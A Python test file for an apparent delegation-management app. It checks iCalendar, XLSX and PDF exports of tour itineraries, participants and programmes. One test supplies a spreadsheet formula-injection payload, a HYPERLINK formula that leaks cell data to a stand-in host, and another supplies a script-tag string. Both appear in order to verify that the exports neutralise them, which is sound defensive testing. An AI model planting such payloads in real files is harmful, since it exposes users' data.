"""Exports of a delegation: the itinerary as iCalendar (parsed back with icalendar), the participants as XLSX
(opened with openpyxl) and the printed programme as PDF (read back with pypdf: pages, metadata, the text it prints)."""

from __future__ import annotations

import datetime as dt
import io
import re
from typing import Any
from zoneinfo import ZoneInfo

import icalendar
import pytest
from openpyxl import load_workbook
from pypdf import PdfReader

from onconet.core.spreadsheets import escape_cell
from onconet.partnerships import exports, services
from onconet.partnerships.tests.conftest import TOUR_START

pytestmark = pytest.mark.django_db

PARIS = ZoneInfo("Europe/Paris")
PAGE = re.compile(rb"/Type\s*/Page(?![a-zA-Z])")


def day(offset: int) -> dt.date:
    return TOUR_START + dt.timedelta(days=offset)


def paris(offset: int, hour: int, minute: int = 0) -> dt.datetime:
    return dt.datetime.combine(day(offset), dt.time(hour, minute), tzinfo=PARIS)


def calendar_of(delegation: Any) -> icalendar.Calendar:
    return icalendar.Calendar.from_ical(exports.delegation_ics(delegation))


def events_by_uid(calendar: icalendar.Calendar) -> dict[str, Any]:
    return {str(event["UID"]): event for event in calendar.walk("VEVENT")}


# ================================================================ iCalendar


def test_ics_has_the_tour_as_an_all_day_event_and_one_event_per_visit(users, tour):
    services.visit_add(
        user=users["coordinator"], delegation=tour, date=day(4), institution="Institut Curie", topic="oncology"
    )
    calendar = calendar_of(tour)
    assert str(calendar["PRODID"]) == "-//OncoNet//Partnerships//EN"
    assert str(calendar["VERSION"]) == "2.0"
    assert str(calendar["X-WR-CALNAME"]) == "Study tour: French hospitals and emergency services"
    events = calendar.walk("VEVENT")
    assert len(events) == 1 + tour.visits.count() == 4
    uids = [str(event["UID"]) for event in events]
    assert len(set(uids)) == len(uids)
    whole = events_by_uid(calendar)[f"delegation-{tour.pk}@onconet.example"]
    assert str(whole["SUMMARY"]) == "Study tour: French hospitals and emergency services"
    assert str(whole["LOCATION"]) == "Paris, France"
    assert str(whole["DESCRIPTION"]) == "Learn how public hospitals and emergency services are organised in France."
    start, end = whole["DTSTART"].dt, whole["DTEND"].dt
    assert (type(start), type(end)) == (dt.date, dt.date)  # all-day: dates, not date-times
    assert (start, end) == (day(0), day(6))  # DTEND is exclusive: the day after the last day
    assert whole["DTSTART"].params.get("VALUE") == "DATE"


def test_ics_visits_are_in_the_destinations_time_zone_at_their_wall_clock_times(users, tour):
    services.visit_add(
        user=users["coordinator"],
        delegation=tour,
        date=day(3),
        start_time=dt.time(14, 0),
        institution="SAMU de Paris",
        host="Regulation centre",
        description="How calls are regulated.",
        topic="emergency",
    )
    calendar = calendar_of(tour)
    events = events_by_uid(calendar)
    first, second, third = tour.visits.order_by("date")
    expected = {
        first.pk: (paris(1, 10), paris(1, 12, 30)),
        second.pk: (paris(2, 9), paris(2, 13)),
        third.pk: (paris(3, 14), paris(3, 16)),  # no end time: two hours
    }
    for pk, (start, end) in expected.items():
        event = events[f"visit-{pk}@onconet.example"]
        got_start, got_end = event["DTSTART"].dt, event["DTEND"].dt
        assert got_start.tzinfo is not None
        assert got_end.tzinfo is not None
        assert (got_start, got_end) == (start, end)  # the same instants
        assert (got_start.replace(tzinfo=None), got_end.replace(tzinfo=None)) == (
            start.replace(tzinfo=None),
            end.replace(tzinfo=None),
        )  # at the same wall-clock times
        assert got_start.utcoffset() == start.utcoffset()
        assert event["DTSTART"].params["TZID"] == "Europe/Paris"
        assert event["DTEND"].params["TZID"] == "Europe/Paris"
    fhf = events[f"visit-{first.pk}@onconet.example"]
    assert str(fhf["SUMMARY"]) == "Fédération Hospitalière de France — hospital management"
    assert str(fhf["LOCATION"]) == "1 bis rue Cabanis, 75014 Paris"
    assert str(fhf["DESCRIPTION"]) == "hospital management\nHost: Directorate"
    samu = events[f"visit-{third.pk}@onconet.example"]
    assert str(samu["DESCRIPTION"]) == "emergency services\nHost: Regulation centre\nHow calls are regulated."
    assert "LOCATION" not in samu
    assert [str(zone["TZID"]) for zone in calendar.walk("VTIMEZONE")] == ["Europe/Paris"]


def test_ics_visit_without_times_is_an_all_day_event(users, tour):
    visit = services.visit_add(
        user=users["coordinator"], delegation=tour, date=day(5), institution="Hôpital Foch", topic="private"
    )
    event = events_by_uid(calendar_of(tour))[f"visit-{visit.pk}@onconet.example"]
    assert (event["DTSTART"].dt, event["DTEND"].dt) == (day(5), day(6))
    assert type(event["DTSTART"].dt) is dt.date
    assert "TZID" not in event["DTSTART"].params


def test_ics_of_a_delegation_to_another_time_zone(users, places):
    trip = services.delegation_create(
        user=users["admin"],
        title="Moscow physicians in Almaty",
        direction="outbound",
        purpose="Oncology in Kazakhstan.",
        start_date=day(0),
        end_date=day(1),
        origin=places["moscow"],
        destination=places["almaty"],
    )
    visit = services.visit_add(
        user=users["admin"],
        delegation=trip,
        date=day(1),
        start_time=dt.time(9, 0),
        end_time=dt.time(11, 0),
        institution="Kazakh Institute of Oncology and Radiology",
        topic="oncology",
    )
    calendar = calendar_of(trip)
    event = events_by_uid(calendar)[f"visit-{visit.pk}@onconet.example"]
    almaty = ZoneInfo("Asia/Almaty")
    assert event["DTSTART"].dt == dt.datetime.combine(day(1), dt.time(9), tzinfo=almaty)
    assert event["DTSTART"].params["TZID"] == "Asia/Almaty"
    assert [str(zone["TZID"]) for zone in calendar.walk("VTIMEZONE")] == ["Asia/Almaty"]
    assert str(events_by_uid(calendar)[f"delegation-{trip.pk}@onconet.example"]["LOCATION"]) == "Almaty, Kazakhstan"


def test_ics_late_visit_without_end_time_ends_after_it_starts(users, tour):
    visit = services.visit_add(
        user=users["coordinator"],
        delegation=tour,
        date=day(3),
        start_time=dt.time(23, 0),
        institution="Night shift at the SAMU",
        topic="emergency",
    )
    event = events_by_uid(calendar_of(tour))[f"visit-{visit.pk}@onconet.example"]
    assert event["DTEND"].dt > event["DTSTART"].dt
    assert event["DTEND"].dt == dt.datetime.combine(day(4), dt.time(1, 0), tzinfo=PARIS)


# ================================================================ XLSX


def test_xlsx_has_the_header_and_one_row_per_participant(users, tour):
    services.participant_add(
        user=users["coordinator"],
        delegation=tour,
        full_name="Marat Akhmetov",
        role="physician",
        organisation="Kazakh Institute of Oncology",
        country="KZ",
        email="m.akhmetov@example.kz",
        phone="+7 727 000 00 00",
        visa_status="to_apply",
    )
    workbook = load_workbook(io.BytesIO(exports.participants_xlsx(tour)))
    assert workbook.sheetnames == ["Participants"]
    sheet = workbook["Participants"]
    rows = [tuple("" if v is None else v for v in row) for row in sheet.iter_rows(values_only=True)]
    assert rows == [
        ("Name", "Role", "Organisation", "Country", "Email", "Phone", "Visa"),
        ("Aidar Nurlanov", "hospital manager", "Almaty City Hospital No. 7", "Kazakhstan", "", "", "applied"),
        ("Irina Sokolova", "chief physician", "Kaluga Regional Hospital", "Russian Federation", "", "", "issued"),
        (
            "Marat Akhmetov",
            "physician",
            "Kazakh Institute of Oncology",
            "Kazakhstan",
            "m.akhmetov@example.kz",
            "+7 727 000 00 00",
            "to apply",
        ),
    ]
    assert all(cell.font.bold for cell in sheet[1])
    assert not sheet["A2"].font.bold
    assert sheet.freeze_panes == "A2"
    assert sheet.auto_filter.ref == "A1:G4"


def test_xlsx_of_a_delegation_without_participants_has_only_the_header(users, places):
    empty = services.delegation_create(
        user=users["admin"],
        title="Nobody yet",
        direction="inbound",
        purpose="Planning.",
        start_date=day(0),
        end_date=day(1),
        origin=places["almaty"],
        destination=places["moscow"],
    )
    sheet = load_workbook(io.BytesIO(exports.participants_xlsx(empty)))["Participants"]
    assert list(sheet.iter_rows(values_only=True)) == [
        ("Name", "Role", "Organisation", "Country", "Email", "Phone", "Visa")
    ]


def test_xlsx_never_carries_a_formula_from_participant_input(users, tour):
    name = '=HYPERLINK("https://evil.example/?"&A3,"Click")'
    services.participant_add(
        user=users["coordinator"],
        delegation=tour,
        full_name=name,
        role="physician",
        organisation="=1+1",
        country="RU",
    )
    sheet = load_workbook(io.BytesIO(exports.participants_xlsx(tour)))["Participants"]
    cells = [row for row in sheet.iter_rows(min_row=2) if str(row[0].value).lstrip("'").startswith("=")]
    assert len(cells) == 1
    name_cell, _, organisation_cell = cells[0][:3]
    assert (name_cell.data_type, organisation_cell.data_type) == ("s", "s")
    assert (name_cell.value, organisation_cell.value) == (escape_cell(name), escape_cell("=1+1"))


# ================================================================ PDF


def expected_lines(tour: Any) -> list[tuple[str, str]]:
    def heading(offset: int) -> tuple[str, str]:
        return ("day", f"Day {offset + 1} · {day(offset):%A %d %B %Y}")

    return [
        ("title", "Study tour: French hospitals and emergency services"),
        ("meta", f"{day(0):%d %B %Y} – {day(5):%d %B %Y} · 6 days · Moscow → Paris (2,486 km)"),
        ("meta", "Organised by National Medical Association of Kazakhstan, Russian Medical Association"),
        ("meta", "2 participants from Kazakhstan, Russian Federation"),
        ("blank", ""),
        ("text", "Learn how public hospitals and emergency services are organised in France."),
        ("blank", ""),
        heading(0),
        ("muted", "Travel or free day"),
        ("blank", ""),
        heading(1),
        ("visit", "10:00–12:30  Fédération Hospitalière de France"),
        ("muted", "    hospital management · host: Directorate · 1 bis rue Cabanis, 75014 Paris"),
        ("blank", ""),
        heading(2),
        ("visit", "09:00–13:00  Hôpital Bichat–Claude-Bernard"),
        ("muted", "    emergency services · 46 rue Henri Huchard, 75018 Paris"),
        ("blank", ""),
        heading(3),
        ("muted", "Travel or free day"),
        ("blank", ""),
        heading(4),
        ("muted", "Travel or free day"),
        ("blank", ""),
        heading(5),
        ("muted", "Travel or free day"),
        ("blank", ""),
        ("day", "Budget and costs"),
        ("text", "EUR: 0.00 spent of a budget of 60,000.00"),
    ]


def test_programme_lines_have_the_day_headings_the_distance_and_the_budget(users, tour):
    assert exports.programme_lines(tour) == expected_lines(tour)
    services.cost_add(user=users["coordinator"], delegation=tour, category="travel", amount="12000.5", currency="EUR")
    services.cost_add(user=users["coordinator"], delegation=tour, category="visas", amount="35000", currency="RUB")
    assert exports.programme_lines(tour)[-2:] == [
        ("text", "EUR: 12,000.50 spent of a budget of 60,000.00"),
        ("text", "RUB: 35,000.00 spent"),
    ]


def pdf_pages(pdf: bytes) -> list[str]:
    """The text of each page, every run of white space (a line the page wrapped) as one space."""
    return [" ".join(page.extract_text().split()) for page in PdfReader(io.BytesIO(pdf)).pages]


def test_programme_pdf_is_one_page_with_the_title_as_metadata(tour):
    pdf = exports.programme_pdf(tour)
    assert pdf.startswith(b"%PDF")
    assert pdf.rstrip().endswith(b"%%EOF")
    reader = PdfReader(io.BytesIO(pdf))
    assert len(reader.pages) == 1
    assert reader.metadata is not None
    assert reader.metadata.title == "Study tour: French hospitals and emergency services"
    assert reader.metadata["/Creator"] == "OncoNet"
    text = pdf_pages(pdf)[0]
    for _style, line in exports.programme_lines(tour):
        assert " ".join(line.split()) in text, line
    assert text.endswith("Study tour: French hospitals and emergency services Page 1 of 1")


def test_programme_pdf_prints_markup_and_dollars_as_text(users, places):
    title = "Tour $5 & $6 <script>alert(1)</script> 100%"
    delegation = services.delegation_create(
        user=users["coordinator"],
        title=title,
        direction="inbound",
        purpose=r"Costs $500 and $800; \x$ is no formula.",
        start_date=day(0),
        end_date=day(0),
        origin=places["moscow"],
        destination=places["almaty"],
    )
    pdf = exports.programme_pdf(delegation)
    text = pdf_pages(pdf)[0]
    assert text.startswith(title)
    assert r"Costs $500 and $800; \x$ is no formula." in text
    assert PdfReader(io.BytesIO(pdf)).metadata.title == title


@pytest.fixture
def busy(users, places) -> Any:
    """Six days with five visits a day: 76 printed lines, two pages."""
    coordinator = users["coordinator"]
    delegation = services.delegation_create(
        user=coordinator,
        title="Hospital managers across Kazakhstan",
        direction="inbound",
        purpose="Thirty hospitals in six days.",
        start_date=day(0),
        end_date=day(5),
        origin=places["moscow"],
        destination=places["almaty"],
    )
    for offset in range(6):
        for hour in range(8, 18, 2):
            services.visit_add(
                user=coordinator,
                delegation=delegation,
                date=day(offset),
                start_time=dt.time(hour),
                end_time=dt.time(hour + 1),
                institution=f"Hospital {offset + 1}.{hour}",
                topic="management",
            )
    return delegation


def test_a_long_programme_runs_onto_numbered_pages_with_every_line_in_order(busy):
    lines = exports.programme_lines(busy)
    assert len(lines) == 4 + 6 * (2 + 5 * 2) == 76
    assert lines[3:5] == [("text", "Thirty hospitals in six days."), ("blank", "")]
    assert lines[-2:] == [("visit", "16:00–17:00  Hospital 6.16"), ("muted", "    hospital management")]
    pdf = exports.programme_pdf(busy)
    reader = PdfReader(io.BytesIO(pdf))
    assert reader.metadata is not None
    assert reader.metadata.title == "Hospital managers across Kazakhstan"
    pages = pdf_pages(pdf)
    assert len(pages) > 1
    for number, text in enumerate(pages, start=1):
        assert text.endswith(f"Hospital managers across Kazakhstan Page {number} of {len(pages)}"), text[-80:]
    printed = " ".join(pages)
    position = 0
    for _style, line in lines:
        line = " ".join(line.split())
        found = printed.find(line, position)
        assert found >= 0, line  # every line, in the order of the programme
        position = found + len(line)


def test_every_printed_line_lies_on_the_page_above_the_footer(busy):
    reader = PdfReader(io.BytesIO(exports.programme_pdf(busy)))
    bottom_margin = 20 / 25.4 * 72  # 20 mm of print.css's @page, in points
    for number, page in enumerate(reader.pages, start=1):
        heights: dict[str, list[float]] = {"body": [], "footer": []}

        def visit(text: str, cm: Any, tm: Any, _font: Any, _size: Any, heights: Any = heights) -> None:
            if text.strip():
                y = tm[4] * cm[1] + tm[5] * cm[3] + cm[5]  # the baseline on the page, in points from the bottom
                heights["footer" if y < bottom_margin else "body"].append(y)

        page.extract_text(visitor_text=visit)
        assert heights["footer"], number
        assert min(heights["body"]) > max(heights["footer"]) + 10, number
        assert max(heights["body"]) < float(page.mediabox.height) - 22 / 25.4 * 72, number  # below the top margin
